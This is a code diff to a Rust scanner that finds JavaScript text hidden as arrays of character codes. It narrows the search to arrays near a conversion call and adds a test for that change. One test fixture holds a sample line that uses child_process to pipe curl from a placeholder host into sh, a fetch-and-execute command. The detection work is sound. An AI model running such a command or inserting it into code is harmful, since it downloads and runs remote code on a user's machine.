@@ -6,6 +6,9 @@
 
 /// Fewest character codes that make a string built from codes.
 const MIN_CHAR_CODES: usize = 24;
+/// How far from a marker an array of codes is looked for (before or after it; an array longer
+/// than that is still seen by its part inside).
+const ARRAY_REACH: usize = 16 * 1024;
 /// Largest shift tried when the codes are offset (`x - 7`) to hide the text.
 const MAX_SHIFT: i32 = 64;
 
@@ -45,7 +48,12 @@ pub fn find(text: &[u8], markers: &[(usize, usize)]) -> Option<usize> {
             return Some(count.2);
         }
     }
-    numeric_arrays(text).find_map(|(at, codes)| is_text(&codes).then_some(at))
+    // Arrays only near a marker: a large bundle may convert codes in one place and hold a
+    // numeric table (a decoder's lookup table, say) far from it.
+    let offsets: Vec<usize> = markers.iter().map(|&(at, _)| at).collect();
+    crate::encoded::windows(text.len(), &offsets, ARRAY_REACH).find_map(|(lo, hi)| {
+        numeric_arrays(&text[lo..hi]).find_map(|(at, codes)| is_text(&codes).then_some(lo + at))
+    })
 }
 
 /// Runs of at least [`MIN_CHAR_CODES`] integers separated by commas (decimal or `0x` hex):
@@ -172,6 +180,18 @@ mod tests {
     }
 
     const CODE: &str = "require('child_process').exec('curl -s http://x.invalid/a | sh')";
+
+    #[test]
+    fn a_code_array_far_from_any_conversion_is_not_text_from_codes() {
+        let array = format!("var t = [{}];\n", codes(CODE, 0, ","));
+        let near = format!("{array}eval(String.fromCharCode.apply(null, t));\n");
+        assert!(find(near.as_bytes()).is_some());
+        let far = format!(
+            "{array}{}eval(String.fromCharCode.apply(null, t));\n",
+            "// filler\n".repeat(4000)
+        );
+        assert_eq!(find(far.as_bytes()), None);
+    }
 
     #[test]
     fn every_form_of_char_codes_is_found() {
